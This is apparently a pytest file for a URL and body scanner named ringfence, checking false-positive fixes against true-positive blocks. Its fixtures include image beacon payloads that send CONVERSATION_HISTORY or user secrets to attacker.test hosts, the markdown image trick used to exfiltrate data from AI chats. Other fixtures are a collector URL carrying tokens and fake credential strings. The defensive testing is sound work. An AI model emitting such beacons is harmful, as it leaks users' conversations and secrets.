"""False-positive classes found by `ringfence bench fp` and the matrix's benign twins, each
fixed as a class with its true positives kept: public identifiers that look random, encoded
values that spell prose or hashes, badge images, version strings, JSON keys."""
import base64
import json

import pytest

from ringfence.bench.static import make_engine
from ringfence.config import Config
from ringfence.scanners.entropy import data_like, is_public_id
from ringfence.scanners.injection import InjectionScanner

E = make_engine()
INJ = InjectionScanner(Config())


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


PUBLIC = ["pk_live_51HqLyjWDarjtT1zdp7dcQ9vKfYw3ZxRtGhQ", "pk_test_TYooMQauvdEDq54NiTphI7jx",
          "sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC",
          "bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi",
          "QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG",
          "sha256:4bcff63911fa1d8f7b1e2a8a6d8e0f3c9a1b2c3d4e5f60718293a4b5c6d7e8f9",
          "0c0ixw2ahhbk6aw9d9pxbnx5gsxr2akv-hello-2.12.1"]


@pytest.mark.parametrize("v", PUBLIC)
def test_public_identifiers_pass_in_urls_and_bodies(v):
    assert is_public_id(v)
    d, _ = E.check_url(f"https://cdn.example.com/assets/{v}/index.js?ref={v}")
    assert d.verdict == "allow", d.reason
    assert E.scan_body(json.dumps({"digest": v}).encode(), "application/json").verdict == "allow"


@pytest.mark.parametrize("v", ["pk_live", "sk_live_51HqLyjWDarjtT1zdp7dcQ9vKfYw3ZxRtGhQ", "Qm" + "x" * 44,
                               "sha999-abcdefghijklmnop"])
def test_public_id_near_misses_are_not_public(v):
    assert not is_public_id(v)


@pytest.mark.parametrize("plain", ["Thanks, the build passed on the second try.",
                                   "9fceb02d0ae598e95dc970b74767f19372d61af8",
                                   "3f2b8c1e-9a4d-4e6f-8b2a-1c5d7e9f0a3b"])
def test_encoded_prose_hashes_and_uuids_in_urls_pass(plain):
    for enc in (b64(plain), b64(b64(plain)), base64.b32encode(plain.encode()).decode().lower()):
        assert data_like(enc, 4.5, 20) is None, enc
        d, _ = E.check_url(f"https://api.example.com/v1/items?cursor={enc}")
        assert d.verdict == "allow", (enc, d.reason)


@pytest.mark.parametrize("secretish", ["x7Kp2mQ9vR4sL8nW1bY6cT3fA0jH5dE", "Zk3pQ9rT2vX8mN4bQ7wE1rT5yU9iO3pA"])
def test_encoded_random_tokens_in_urls_still_block(secretish):
    for v in (secretish, b64(secretish), b64(b64(secretish))):
        d, _ = E.check_url(f"https://collector.example.net/c?d={v}")
        assert d.verdict == "block", v


@pytest.mark.parametrize("page", [
    '<img alt="chat" src="https://img.shields.io/discord/8gea8t82g8o2ai82tt?label=Discord">',
    "![Install Size](https://packagephobia.now.sh/badge?p=commander)",
    "![cov](https://codecov.io/gh/acme/lib/graph/badge.svg?token=B6JCAIL2KV)"])
def test_badge_images_pass(page):
    assert INJ.scan(page) == []


@pytest.mark.parametrize("page", ["![x](https://img.attacker.test/p.png?d=USER_SECRET_HERE)",
                                  '<img src="https://px.attacker.test/a.gif?data=CONVERSATION_HISTORY">',
                                  "![s](https://img.attacker.test/s.png?q={secret})"])
def test_beacon_images_still_block(page):
    assert INJ.scan(page)


def test_package_manifests_and_json_keys_pass():
    manifest = {"name": "app", "devDependencies": {"pbkdf2-password": "1.2.1", "supertest": "^6.3.0",
                                                   "token-types": ">=5.0.1 <6"},
                "engines": {"node": ">= 0.10.0"}}
    assert E.scan_body(json.dumps(manifest).encode(), "application/json").verdict == "allow"
    mime = {"application/private-token-issuer-directory": {"source": "iana"},
            "application/private-token-request": {"source": "iana"}}
    assert E.scan_body(json.dumps(mime).encode(), "application/json").verdict == "allow"


def test_secret_fields_and_secret_keys_still_block():
    assert E.scan_body(json.dumps({"db": {"password": "Tq8vLm2xRw!9zK"}}).encode(), "application/json").verdict == "block"
    key = "ghp_" + "j7FAc9QeWJKY40uvSwMFLZDe1f8rESQedUSt"
    assert E.scan_body(json.dumps({key: "value"}).encode(), "application/json").verdict == "block"
